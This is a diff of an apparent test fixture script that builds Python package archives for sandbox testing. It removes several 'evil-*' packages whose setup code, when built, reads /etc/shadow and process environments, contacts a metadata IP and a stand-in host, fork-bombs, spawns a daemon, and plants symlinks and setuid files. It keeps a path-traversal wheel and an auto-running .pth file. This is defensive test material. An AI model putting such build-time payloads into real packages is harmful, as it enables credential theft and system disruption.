@@ -1,4 +1,5 @@
-"""Writes archives of Python packages for the tests: `wheels.py DIRECTORY`. Nothing of it comes from a registry."""
+"""Writes archives of Python packages for the tests: `wheels.py DIRECTORY`, or `wheels.py DIRECTORY NAME < CODE` for one whose code runs when it is
+built. Nothing of it comes from a registry."""
 
 import base64
 import hashlib
@@ -73,7 +74,6 @@ def native():
     os.remove(f"{OUT}/fast.so")
 
 
-# What hostile code of a package does when it is built: `evil-*` are told apart by what they try.
 SETUP = """
 from setuptools import setup
 import os, subprocess, sys
@@ -82,9 +82,10 @@ setup(name="{name}", version="1.0", py_modules=["{module}"])
 """
 
 
-def evil(name, code, files=()):
+def source(name, code="", text="x = 1\n"):
+    """An archive of sources, whose `code` runs when it is built."""
     module = name.replace("-", "_")
-    sdist(name, "1.0", SETUP.format(name=name, module=module, code=code), {f"{module}.py": "x = 1\n", **dict(files)})
+    sdist(name, "1.0", SETUP.format(name=name, module=module, code=code), {f"{module}.py": text})
 
 
 def main():
@@ -98,16 +99,10 @@ def main():
     wheel("pth", "1.0", {"pth.pth": "import os; open('/workspace/pth-ran', 'w')\n", "pth.py": "x = 1\n"})
     wheel("escape", "1.0", {"../../../../escaped.py": "x = 1\n", "escape.py": "x = 1\n"})
     wheel("many", "1.0", {"many.py": "x = 1\n", **{f"many_data/{i}": "" for i in range(100_000)}})
-    sdist("plain-source", "1.0", SETUP.format(name="plain-source", module="plain_source", code=""), {"plain_source.py": "VALUE = 'built from source'\n"})
-    evil("evil-reader", "import glob\nfound = []\nfor path in ['/root', '/home', '/etc/shadow', '/proc/1/environ', '/var/lib', '/work'] + glob.glob('/opt/plastron/*'):\n"
-         "    try: os.listdir(path) if os.path.isdir(path) else open(path).read(); found.append(path)\n    except OSError: pass\nprint('READ', found, sorted(os.environ), file=sys.stderr)\n")
-    evil("evil-caller", "import socket\nfor to in OUTSIDE:\n    try:\n        s = socket.create_connection(to, 3); s.sendall(b'GET /stolen HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'); print('REACHED', to, s.recv(20), file=sys.stderr)\n"
-         "    except OSError as e: print('NOT REACHED', to, e, file=sys.stderr)\n".replace("OUTSIDE", "eval(open('/workspace/outside').read()) if os.path.exists('/workspace/outside') else [('127.0.0.1', 1), ('169.254.169.254', 80), ('elsewhere.test', 80)]"))
-    evil("evil-bomb", "while True:\n    try: os.fork()\n    except OSError: pass\n")
-    evil("evil-daemon", "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for i in range(600):\n            time.sleep(0.1)\n            try: open(f'/workspace/tree/late{i}.py', 'w').write('late')\n            except OSError: pass\n        os._exit(0)\n    os._exit(0)\n")
-    evil("evil-link", "os.makedirs('/workspace/tree', exist_ok=True)\nos.path.lexists('/workspace/tree/out') or os.symlink('/etc', '/workspace/tree/out')\n")
-    evil("evil-setuid", "os.makedirs('/workspace/tree', exist_ok=True)\nopen('/workspace/tree/suid', 'w').write('#!/bin/sh\\n')\ntry: os.chmod('/workspace/tree/suid', 0o4755)\nexcept OSError: os.chmod('/workspace/tree/suid', 0o755)\n")
-    evil("evil-memory", "data = []\nwhile True: data.append(bytearray(64 << 20)); data[-1][::4096] = b'x' * len(data[-1][::4096])\n")
+    source("plain-source", text="VALUE = 'built from source'\n")
 
 
-main()
+if len(sys.argv) > 2:
+    source(sys.argv[2], sys.stdin.read())
+else:
+    main()
